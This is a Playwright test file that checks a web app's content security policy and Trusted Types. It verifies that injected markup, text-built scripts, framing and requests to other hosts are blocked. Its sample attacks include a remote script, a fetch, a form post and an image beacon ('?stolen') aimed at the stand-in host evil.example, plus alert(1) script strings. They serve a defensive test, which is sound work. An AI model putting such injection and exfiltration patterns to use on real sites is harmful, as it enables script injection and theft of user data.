import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test } from '#journey';
import { open } from '#screens';

/** What the policy of the page stopped while a piece of script ran in it. */
const stoppedBy = (page: Page, attempt: string): Promise<string[]> =>
  page.evaluate(async (source) => {
    const stopped: string[] = [];
    const listen = (event: SecurityPolicyViolationEvent) => stopped.push(event.effectiveDirective);
    document.addEventListener('securitypolicyviolation', listen);
    // DevTools bypasses the policy, so only the effect of the attempt is judged.
    try {
      await (globalThis as unknown as Record<string, () => Promise<void>>)[source]?.();
    } catch (error) {
      stopped.push((error as Error).name);
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    document.removeEventListener('securitypolicyviolation', listen);
    return stopped;
  }, attempt);

const attempts: Record<string, { readonly run: () => unknown; readonly stopped: string }> = {
  'markup made of text': {
    run: () => {
      document.body.innerHTML = '<img src="x">';
    },
    stopped: 'require-trusted-types-for',
  },
  'a document written from text': {
    run: () => document.write('<p>x</p>'),
    stopped: 'require-trusted-types-for',
  },
  'a frame made of text': {
    run: () => {
      document.createElement('iframe').srcdoc = '<p>x</p>';
    },
    stopped: 'require-trusted-types-for',
  },
  'script made of text': {
    run: () => {
      document.createElement('script').textContent = 'alert(1)';
    },
    stopped: 'require-trusted-types-for',
  },
  'a timer with script made of text': {
    run: () => setTimeout('alert(1)', 0),
    stopped: 'require-trusted-types-for',
  },
  'a handler written into markup': {
    run: () => document.body.setAttribute('onclick', 'alert(1)'),
    stopped: 'require-trusted-types-for',
  },
  'a script of another host': {
    run: () => {
      document.createElement('script').src = 'https://evil.example/x.js';
    },
    stopped: 'require-trusted-types-for',
  },
  'a worker of text': {
    run: () => new Worker('data:text/javascript,1'),
    stopped: 'require-trusted-types-for',
  },
  'a policy that would make exceptions': {
    run: () =>
      (
        globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
      ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
    stopped: 'trusted-types',
  },
  'a call to another host': {
    run: () => fetch('https://evil.example/'),
    stopped: 'connect-src',
  },
  'a picture of another host': {
    run: () => {
      new Image().src = 'https://evil.example/?stolen';
    },
    stopped: 'img-src',
  },
  'a frame of another host': {
    run: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
    stopped: 'frame-src',
  },
  'a form sent to another host': {
    run: () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
      document.body.append(form);
      form.submit();
    },
    stopped: 'form-action',
  },
  'a style of text': {
    run: () => {
      document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }));
    },
    stopped: 'style-src-elem',
  },
};

test.describe('an injected script', () => {
  test.use({ provokes: ['trustedTypes', 'policy', 'frames'] });

  test('the content policy stops markup and script made from text, and all traffic with other hosts', async ({
    page,
  }) => {
    await open(page, '/login');
    for (const [name, { run, stopped }] of Object.entries(attempts)) {
      await page.evaluate(`globalThis[${JSON.stringify(name)}] = ${String(run)}`);
      expect(await stoppedBy(page, name), name).toContain(stopped);
    }
    expect(await page.evaluate(() => location.pathname + document.querySelectorAll('form input').length)).toMatch(
      /^\/login[1-9]/,
    );
  });

  test('no club page can be framed, not even by the club itself', async ({ page }) => {
    await open(page, '/login');
    for (const path of ['/login', '/my-longevity', '/docs', '/dev/mail', '/api/healthz']) {
      const refused = page.waitForEvent('console', (message) => /frame/i.test(message.text()));
      await page.evaluate((src) => {
        document.body.append(Object.assign(document.createElement('iframe'), { src }));
      }, path);
      expect((await refused).text(), path).toMatch(/X-Frame-Options|frame-ancestors/i);
    }
  });
});

test('the page that ends a framed sign-in can be framed by the club, and runs there', async ({ page }) => {
  await open(page, '/login');
  await page.evaluate(() => {
    const frame = Object.assign(document.createElement('iframe'), { src: '/auth/return.html?error=none&state=none' });
    document.body.append(frame);
  });
  const frame = page.frameLocator('iframe');
  await expect(frame.getByText('You can close this window.')).toBeAttached();
  // Its script has run once what came with the address is gone from it.
  await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/\/auth\/return\.html$/);
});

test.describe('another site', () => {
  test.use({ provokes: ['frames'] });

  test('other sites cannot frame club pages', async ({ page, baseURL }) => {
    const paths = ['/login', '/auth/return.html', '/docs', '/dev/mail'];
    const frames = paths.map((path) => `<iframe src="${baseURL}${path}"></iframe>`).join('');
    const elsewhere = createServer((_request, response) => {
      response.setHeader('Content-Type', 'text/html').end(`<title>Elsewhere</title>${frames}`);
    });
    await new Promise<void>((ready) => elsewhere.listen(0, '127.0.0.1', ready));
    const refusals: string[] = [];
    page.on('console', (message) => refusals.push(message.text()));
    await page.goto(`http://localhost:${(elsewhere.address() as AddressInfo).port}/`);
    const refused = () => refusals.filter((text) => /X-Frame-Options|frame-ancestors/i.test(text)).length;
    await expect.poll(refused).toBe(paths.length);
    elsewhere.close();
  });
});

// That the pages of the club break none, every journey shows.
test('the local mailbox obeys its own policy', async ({ page }) => {
  await page.goto('/dev/mail');
  await expect(page.getByRole('heading', { name: 'Local mailbox' })).toBeVisible();
});

test.describe('the API reference', () => {
  // Its reader asks whether script may be made of text, and goes on without.
  test.use({ expectedMessages: /^policy: script-src eval .*\/docs\/reader\.js:\d+$/ });

  test('the API reference opens under its own policy and loads nothing from other hosts', async ({ page, baseURL }) => {
    const asked: string[] = [];
    page.on('request', (request) => asked.push(new URL(request.url()).origin));
    await page.goto('/docs');
    await expect(page.getByRole('heading', { name: /Club API/ })).toBeVisible();
    expect(new Set(asked)).toEqual(new Set([baseURL]));
  });
});
